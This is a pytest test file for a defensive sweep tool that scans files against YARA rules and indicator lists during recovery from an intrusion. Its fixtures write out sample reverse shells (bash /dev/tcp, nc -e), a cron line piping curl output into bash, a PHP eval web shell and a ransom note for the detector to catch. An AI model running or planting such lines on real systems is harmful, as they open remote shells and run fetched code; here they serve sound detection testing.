"""The sweep with rules and indicators: what is found, what is quiet, and what a hostile file or rule cannot do."""

from __future__ import annotations

import hashlib
import os
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from garde.recovery.checks import hits as module
from garde.recovery.checks.hits import Hits, find_hits, read_rules
from garde.recovery.checks.indicators import Indicators, _take, read_indicators

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
NOISE = {
    "reverse.sh": "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1\n",
    "nc.sh": "nc 192.0.2.7 4444 -e /bin/sh\n",
    "cron.d/tidy": "* * * * * root curl -s http://192.0.2.7/a | bash\n",
    "shell.php": "<?php @eval(base64_decode($_POST['x'])); ?>",
    "HOW_TO_RESTORE.txt": "All of your important files have been encrypted!\nUse Tor Browser, pay in Bitcoin.\n",
}


def put(folder: Path, name: str, content: str | bytes) -> bytes:
    file = folder / name
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_bytes(content.encode() if isinstance(content, str) else content)
    return os.fsencode(file)


def swept(paths: list[bytes], rules: Path | None = None, seconds: float = 60.0) -> Hits:
    return find_hits(paths, read_rules(rules), read_indicators(rules), seconds=seconds)


def test_gardes_own_rules_compile_and_find_what_they_are_for(tmp_path: Path) -> None:
    paths = [put(tmp_path, name, text) for name, text in NOISE.items()]
    paths.append(put(tmp_path, "eicar.com", EICAR))
    seen = swept(paths)
    assert seen.broken == []
    assert {path for path, _ in seen.found} == set(paths)
    assert (seen.looked, seen.left, seen.skipped) == (len(paths), 0, [])


def test_they_are_quiet_on_this_machines_own_programs_and_on_themselves() -> None:
    """Honest code full of shells, sockets and encodings: Python's own library, and the rules."""
    library = Path(os.__file__).parent
    paths = [os.fsencode(path) for path in sorted(library.glob("*.py"))]
    paths += [os.fsencode(path) for path in module.OWN.iterdir()]
    assert swept(paths).found == []


def test_the_hospitals_rules_and_indicators_count(tmp_path: Path) -> None:
    rules = tmp_path / "rules"
    put(rules, "ours.yar", 'rule ours { strings: $a = "loader 7" condition: $a and filename == "a.bin" }')
    put(rules, "more/deep.yara", 'rule deep { condition: extension == ".dll" }')
    data = b"they know me"
    text = f"# from the neighbours\nsha256 {hashlib.sha256(data).hexdigest()} their loader\nname *.LOCKED\n"
    put(rules, "n.ioc", text + "address 192.0.2.99\ndomain pay.example.net\n")
    one, two = put(tmp_path, "a.bin", "loader 7"), put(tmp_path, "b.bin", data)
    three, four = put(tmp_path, "report.doc.locked", "x"), put(tmp_path, "hosts", "192.0.2.99 pay.example.net\n")
    found = swept([one, two, three, four, put(tmp_path, "x.dll", "")], rules).found
    assert (one, "rule: ours") in found
    assert any(path == two and "their loader" in what for path, what in found)
    assert any(path == three and "*.LOCKED" in what for path, what in found)
    assert {what for path, what in found if path == four} == {
        "names an indicator: 192.0.2.99", "names an indicator: pay.example.net",
    }  # fmt: skip
    assert any(path.endswith(b"x.dll") and what == "rule: deep" for path, what in found)


def test_a_longer_address_or_name_is_another_one(tmp_path: Path) -> None:
    put(tmp_path / "rules", "n.ioc", "address 192.0.2.9\ndomain bad.example\n")
    path = put(tmp_path, "hosts", "192.0.2.99 1192.0.2.9 192.0.2.9.1 notbad.example bad.example.org\n")
    assert swept([path], tmp_path / "rules").found == []


def test_a_rule_that_can_not_be_used_is_named_and_the_others_count(tmp_path: Path) -> None:
    put(tmp_path / "rules", "bad.yar", "rule broken { condition: }")
    put(tmp_path / "rules", "include.yar", 'include "/etc/passwd"')
    seen = swept([put(tmp_path, "eicar.com", EICAR)], tmp_path / "rules")
    assert len(seen.broken) == 2
    assert [what for _, what in seen.found] == ["rule: test_file_of_eicar"]


def test_what_is_gone_or_no_file_is_passed_over_and_no_link_is_followed(tmp_path: Path) -> None:
    eicar = put(tmp_path, "eicar.com", EICAR)
    os.mkfifo(tmp_path / "pipe")
    (tmp_path / "link").symlink_to(os.fsdecode(eicar))
    names = ["gone", "pipe", "link"]
    seen = swept([os.fsencode(tmp_path / name) for name in names])
    assert seen.found == []
    assert seen.looked == 0
    assert [line.rpartition(": ")[0].endswith("link") for line in seen.skipped] == [True]


def test_a_file_larger_than_a_window_is_swept_to_its_end(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(module, "MOST", 1 << 20)
    put(tmp_path / "rules", "end.yar", 'rule end { strings: $a = "the very end" condition: $a }')
    # Across the border of two windows.
    data = bytes((1 << 20) - 6) + b"the very end" + bytes(100)
    put(tmp_path / "rules", "n.ioc", f"md5 {hashlib.md5(data).hexdigest()} whole\n")
    found = swept([put(tmp_path, "large", data)], tmp_path / "rules").found
    assert [what.split(" ")[0] for _, what in found] == ["rule:", "indicator:"]


def test_a_file_that_breaks_the_worker_costs_that_file_only(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A worker that dies of one file, as of a fault in the engine: here by a child that ends itself."""
    child = tmp_path / "child.py"
    text = module.CHILD.read_text(encoding="utf-8")
    child.write_text(text.replace("def look(self, path", "def look(self, path: bytes) -> dict[str, Any]:\n"
                                  "        if b'deadly' in path:\n            os.kill(os.getpid(), 9)\n"
                                  "        return self.really(path)\n\n    def really(self, path"))  # fmt: skip
    monkeypatch.setattr(module, "CHILD", child)
    paths = [put(tmp_path, name, EICAR) for name in ("a", "deadly", "c")]
    seen = swept(paths)
    assert [path for path, _ in seen.found] == [paths[0], paths[2]]
    assert [line.rpartition(": ")[2] for line in seen.skipped] == ["it broke the worker"]
    assert seen.left == 0
    seen = swept([put(tmp_path, f"deadly{number}", "x") for number in range(30)])
    assert seen.left > 0
    assert seen.why == "the worker can't be kept running"


def test_a_worker_without_its_engine_says_so(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    child = tmp_path / "child.py"
    child.write_text("import sys\nsys.exit('no engine here')\n")
    monkeypatch.setattr(module, "CHILD", child)
    seen = swept([put(tmp_path, "a", "x")])
    assert (seen.left, seen.why) == (1, "the worker did not start: no engine here")


def test_when_time_is_over_it_says_how_many_are_left(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    child = tmp_path / "child.py"
    child.write_text('import sys, time\nprint(\'{"rules": 1, "broken": []}\', flush=True)\ntime.sleep(60)\n')
    monkeypatch.setattr(module, "CHILD", child)
    seen = swept([put(tmp_path, "a", "x")], seconds=0.5)
    assert seen.left == 1
    assert "time was over" in seen.why


# --- the list ---------------------------------------------------------------------------------------------------------


def test_lines_that_are_no_indicators_are_named(tmp_path: Path) -> None:
    text = (
        "sha256 abc\nname *\naddress here\nrun /bin/sh\nmd5\n\n# words\npath /x/* # why\naddress 2001:db8::/32 theirs\n"
    )
    put(tmp_path, "a.ioc", text)
    found = read_indicators(tmp_path)
    assert found.broken == [f"a.ioc:{number}: no indicator" for number in (1, 2, 3, 4, 5)]
    assert found.count == 2
    assert found.of_address("2001:db8::1") == "address 2001:db8::/32 (theirs)"
    assert found.of_address("192.0.2.1") == ""
    assert found.of_path(b"/x/y") == "path /x/*"


def test_no_folder_holds_none(tmp_path: Path) -> None:
    assert read_indicators(None).count == 0
    assert read_indicators(tmp_path / "none").count == 0


@given(st.text(max_size=60))
def test_no_line_breaks_the_reader(line: str) -> None:
    found = Indicators()
    for each in line.splitlines():
        _take(found, each, "x:1")
    found.of_path(b"/srv/a.txt")
    found.of_address("192.0.2.1")
